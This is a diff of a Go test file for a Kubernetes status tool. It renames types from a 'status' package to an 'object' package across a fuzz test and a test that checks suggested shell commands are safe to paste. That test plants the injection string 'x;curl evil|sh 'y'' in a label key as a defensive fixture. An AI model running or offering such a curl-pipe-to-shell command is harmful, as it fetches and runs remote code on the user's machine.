@@ -11,6 +11,7 @@ import (
 	"time"
 	"unicode/utf8"
 
+	"github.com/kstatus-tui/kstatus-tui/internal/object"
 	"github.com/kstatus-tui/kstatus-tui/internal/status"
 )
 
@@ -30,13 +31,13 @@ func FuzzExplain(f *testing.F) {
 	f.Fuzz(func(t *testing.T, data []byte) {
 		w := fuzzWorld(data)
 		s := w.snapshot()
-		var roots []status.ID
+		var roots []object.ID
 		for i, o := range w.order {
 			if i%3 == 0 {
 				roots = append(roots, o.ID)
 			}
 		}
-		roots = append(roots, status.ID{Kind: "Pod", Name: "nowhere"})
+		roots = append(roots, object.ID{Kind: "Pod", Name: "nowhere"})
 		causes := Explain(s, roots)
 		for _, c := range causes {
 			if entries[c.Code] == nil {
@@ -78,18 +79,18 @@ var pasteable = regexp.MustCompile(`\A(?:[-A-Za-z0-9_./:=,@%+ ]|'[^']*'|\\')+\z`
 func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
 	const evil = "x;curl evil|sh 'y'"
 	w := newWorld(time.Date(2026, 1, 1, 1, 0, 0, 0, time.UTC))
-	pod := &status.Object{
-		ID: status.ID{Kind: "Pod", Namespace: "a", Name: "web"}, UID: "p", Created: w.now.Add(-time.Hour),
-		Pod: &status.Pod{PodTemplate: &status.PodTemplate{}, Phase: "Pending", Placement: &status.Placement{NodeSelector: []status.Label{{Key: evil, Value: "a"}}}},
-		Conditions: []status.Condition{{
-			Statement:          &status.Statement{Type: "PodScheduled", Status: "False", Reason: "Unschedulable", Message: "0/1 nodes are available: 1 node(s) didn't match Pod's node affinity/selector."},
+	pod := &object.Object{
+		ID: object.ID{Kind: "Pod", Namespace: "a", Name: "web"}, UID: "p", Created: w.now.Add(-time.Hour),
+		Pod: &object.Pod{PodTemplate: &object.PodTemplate{}, Phase: "Pending", Placement: &object.Placement{NodeSelector: []object.Label{{Key: evil, Value: "a"}}}},
+		Conditions: []object.Condition{{
+			Statement:          &object.Statement{Type: "PodScheduled", Status: "False", Reason: "Unschedulable", Message: "0/1 nodes are available: 1 node(s) didn't match Pod's node affinity/selector."},
 			LastTransitionTime: w.now.Add(-time.Hour),
 		}},
 	}
 	w.put(pod)
 	w.link()
 	found := false
-	for _, c := range Explain(w.snapshot(), []status.ID{pod.ID}) {
+	for _, c := range Explain(w.snapshot(), []object.ID{pod.ID}) {
 		for _, n := range c.Next {
 			found = found || strings.Contains(n, "-L")
 			if !pasteable.MatchString(n) {
@@ -127,7 +128,7 @@ func fuzzWorld(data []byte) *world {
 			return w.now.Add(time.Duration(int(n)-200) * 7 * time.Second)
 		}
 	}
-	lines := strings.FieldsFunc(status.Clean(string(data)), func(r rune) bool { return r == '⏎' || r == '\'' || r == '{' || r == ':' })
+	lines := strings.FieldsFunc(object.Clean(string(data)), func(r rune) bool { return r == '⏎' || r == '\'' || r == '{' || r == ':' })
 	words := []string{
 		"", "True", "False", "Unknown", "not found", "CrashLoopBackOff", "ErrImagePull", "ImagePullBackOff", "CreateContainerConfigError", "OOMKilled", "Ready", "PodScheduled",
 		"0/3 nodes are available: 1 node(s) had untolerated taint(s), 2 Insufficient cpu.", `persistentvolumeclaim "x" not found`, "exceeded quota: q, requested: pods=1, used: pods=2, limited: pods=2",
@@ -135,15 +136,15 @@ func fuzzWorld(data []byte) *world {
 	}
 	words = append(words, lines...)
 	word := func() string { return words[int(next())%len(words)] }
-	cond := func() []status.Condition {
+	cond := func() []object.Condition {
 		types := []string{"Ready", "ContainersReady", "PodScheduled", "Progressing", "Available", "ReplicaFailure", "Failed", "Stalled", "Synced", "DisruptionTarget", "NamespaceContentRemaining", "ScalingActive", "Succeeded", word()}
-		var out []status.Condition
+		var out []object.Condition
 		for range int(next()) % 5 {
-			out = append(out, status.Condition{Statement: &status.Statement{Type: types[int(next())%len(types)], Status: word(), Reason: word(), Message: word()}, LastTransitionTime: when()})
+			out = append(out, object.Condition{Statement: &object.Statement{Type: types[int(next())%len(types)], Status: word(), Reason: word(), Message: word()}, LastTransitionTime: when()})
 		}
 		return out
 	}
-	kinds := []status.ID{
+	kinds := []object.ID{
 		{Kind: "Pod"},
 		{Group: "apps", Kind: "Deployment"},
 		{Group: "apps", Kind: "ReplicaSet"},
@@ -169,52 +170,52 @@ func fuzzWorld(data []byte) *world {
 	for range 3 + int(next())%12 {
 		id := kinds[int(next())%len(kinds)]
 		id.Namespace, id.Name = "a", []string{"a", "web", "web-0", "web-1", "n1", "x"}[next()%6]
-		o := &status.Object{ID: id, UID: id.Kind + id.Name, Created: when(), Changed: when(), Generation: status.IntOf(num()), Observed: status.IntOf(num()), Conditions: cond()}
+		o := &object.Object{ID: id, UID: id.Kind + id.Name, Created: when(), Changed: when(), Generation: object.IntOf(num()), Observed: object.IntOf(num()), Conditions: cond()}
 		if next() < 40 {
 			o.Deleted = when()
 			o.Finalizers = []string{word()}
 		}
-		o.Labels = []status.Label{{Key: "app", Value: word()}, {Key: "controller-revision-hash", Value: word()}}
+		o.Labels = []object.Label{{Key: "app", Value: word()}, {Key: "controller-revision-hash", Value: word()}}
 		if len(w.order) > 0 && next() < 200 {
 			p := w.order[int(next())%len(w.order)]
-			o.Owners = []status.Owner{{Group: p.Group, Kind: p.Kind, Name: p.Name, UID: p.UID, Controller: true}}
+			o.Owners = []object.Owner{{Group: p.Group, Kind: p.Kind, Name: p.Name, UID: p.UID, Controller: true}}
 		}
-		state := func() status.ContainerState {
-			return status.ContainerState{Kind: []string{"", "waiting", "running", "terminated"}[next()%4], Reason: word(), Message: word(), ExitCode: int32(num()), Started: when(), Finished: when()}
+		state := func() object.ContainerState {
+			return object.ContainerState{Kind: []string{"", "waiting", "running", "terminated"}[next()%4], Reason: word(), Message: word(), ExitCode: int32(num()), Started: when(), Finished: when()}
 		}
-		n := func() status.Int { return status.Int{V: num(), Set: next() < 200} }
+		n := func() object.Int { return object.Int{V: num(), Set: next() < 200} }
 		switch o.Kind {
 		case "Pod":
-			o.Pod = &status.Pod{Phase: []string{"", "Pending", "Running", "Failed", "Succeeded"}[next()%5], Reason: word(), Message: word(), Node: []string{"", "n1", "x"}[next()%3], PodTemplate: &status.PodTemplate{RestartPolicy: "Always", EvictAfter: n()}}
+			o.Pod = &object.Pod{Phase: []string{"", "Pending", "Running", "Failed", "Succeeded"}[next()%5], Reason: word(), Message: word(), Node: []string{"", "n1", "x"}[next()%3], PodTemplate: &object.PodTemplate{RestartPolicy: "Always", EvictAfter: n()}}
 			for range int(next()) % 4 {
-				o.Pod.Containers = append(o.Pod.Containers, status.Container{
-					ContainerSpec: &status.ContainerSpec{
-						Name: word(), Image: word(), Kind: status.ContainerKind(next() % 4),
-						Probes: status.Probes{Readiness: &status.Probe{InitialDelay: int32(num()), Period: int32(num()), Threshold: int32(num())}},
+				o.Pod.Containers = append(o.Pod.Containers, object.Container{
+					ContainerSpec: &object.ContainerSpec{
+						Name: word(), Image: word(), Kind: object.ContainerKind(next() % 4),
+						Probes: object.Probes{Readiness: &object.Probe{InitialDelay: int32(num()), Period: int32(num()), Threshold: int32(num())}},
 					},
 					Ready: next()%2 == 0, Restarts: num(), State: state(), Prior: new(state()),
 				})
 			}
 			if o.Pod.Node == "" && next()%2 == 0 {
-				o.Pod.Placement = &status.Placement{NodeSelector: []status.Label{{Key: word(), Value: word()}}, HasTerms: next()%2 == 0, Terms: []status.NodeTerm{{Exprs: []status.Requirement{{Key: word(), Operator: "Gt", Values: []string{word()}}}}}}
+				o.Pod.Placement = &object.Placement{NodeSelector: []object.Label{{Key: word(), Value: word()}}, HasTerms: next()%2 == 0, Terms: []object.NodeTerm{{Exprs: []object.Requirement{{Key: word(), Operator: "Gt", Values: []string{word()}}}}}}
 			}
-			o.Pod.Requests = []status.Amount{{Name: "cpu", Milli: num()}}
-			o.Pod.Uses = []status.Use{{Kind: "PersistentVolumeClaim", Name: "x"}, {Kind: "Secret", Name: word()}}
+			o.Pod.Requests = []object.Amount{{Name: "cpu", Milli: num()}}
+			o.Pod.Uses = []object.Use{{Kind: "PersistentVolumeClaim", Name: "x"}, {Kind: "Secret", Name: word()}}
 		case "Deployment", "ReplicaSet", "StatefulSet", "DaemonSet":
-			o.Workload = &status.Workload{
+			o.Workload = &object.Workload{
 				Replicas: n(), StatusReplicas: n(), Updated: n(), Ready: n(), Available: n(), Desired: n(), Current: n(), Paused: next() < 20, Strategy: word(), MaxUnavailable: word(), MaxSurge: word(),
-				Partition: n(), MinReadySeconds: n(), ProgressDeadline: n(), CurrentRevision: word(), UpdateRevision: word(), Revision: word(), ServiceName: word(), Images: []status.Image{{Container: word(), Image: word()}},
+				Partition: n(), MinReadySeconds: n(), ProgressDeadline: n(), CurrentRevision: word(), UpdateRevision: word(), Revision: word(), ServiceName: word(), Images: []object.Image{{Container: word(), Image: word()}},
 			}
 		case "Job":
-			o.Job = &status.Job{Parallelism: n(), BackoffLimit: n(), ActiveDeadline: n(), Failed: n(), Active: n(), Suspend: next() < 30}
+			o.Job = &object.Job{Parallelism: n(), BackoffLimit: n(), ActiveDeadline: n(), Failed: n(), Active: n(), Suspend: next() < 30}
 		case "CronJob":
-			o.CronJob = &status.CronJob{Suspend: next() < 30, LastSchedule: when()}
+			o.CronJob = &object.CronJob{Suspend: next() < 30, LastSchedule: when()}
 		case "Service":
-			o.Service = &status.Service{Type: word(), Selector: status.Selector{Match: []status.Label{{Key: "app", Value: word()}}}, Ports: []status.Port{{Name: word(), Target: word()}}}
+			o.Service = &object.Service{Type: word(), Selector: object.Selector{Match: []object.Label{{Key: "app", Value: word()}}}, Ports: []object.Port{{Name: word(), Target: word()}}}
 		case "EndpointSlice":
-			o.Endpoints = &status.Endpoints{Service: "web", Endpoints: []status.Endpoint{{Target: status.ID{Kind: "Pod", Namespace: "a", Name: "web"}, TargetUID: "Podweb", Ready: next()%2 == 0}}}
+			o.Endpoints = &object.Endpoints{Service: "web", Endpoints: []object.Endpoint{{Target: object.ID{Kind: "Pod", Namespace: "a", Name: "web"}, TargetUID: "Podweb", Ready: next()%2 == 0}}}
 		case "PersistentVolumeClaim":
-			o.Claim = &status.Claim{Phase: word(), StorageClass: word(), Resize: word()}
+			o.Claim = &object.Claim{Phase: word(), StorageClass: word(), Resize: word()}
 		default:
 			list := []any{map[string]any{"type": word(), "status": word(), "message": word()}, word(), nil, map[string]any{"conditions": []any{map[string]any{"type": "Accepted", "status": "False"}}, "name": word(), "backend": word(), "http": map[string]any{"paths": []any{nil, map[string]any{"backend": map[string]any{"service": map[string]any{"name": "web", "port": map[string]any{"number": num()}}}}}}}}
 			o.Tree = map[string]any{
@@ -228,8 +229,8 @@ func fuzzWorld(data []byte) *world {
 			w.events[o.ID] = append(w.events[o.ID], status.Event{About: o.ID, Reason: reasons[int(next())%len(reasons)], Message: word(), First: when(), Last: when()})
 		}
 	}
-	w.absent[status.ID{Kind: "Secret", Namespace: "a", Name: word()}] = true
-	w.complete[status.ID{Kind: "Node"}] = next()%2 == 0
+	w.absent[object.ID{Kind: "Secret", Namespace: "a", Name: word()}] = true
+	w.complete[object.ID{Kind: "Node"}] = next()%2 == 0
 	w.link()
 	// The tree of a hostile cluster may well be a ring.
 	if next() < 60 && len(w.order) > 2 {
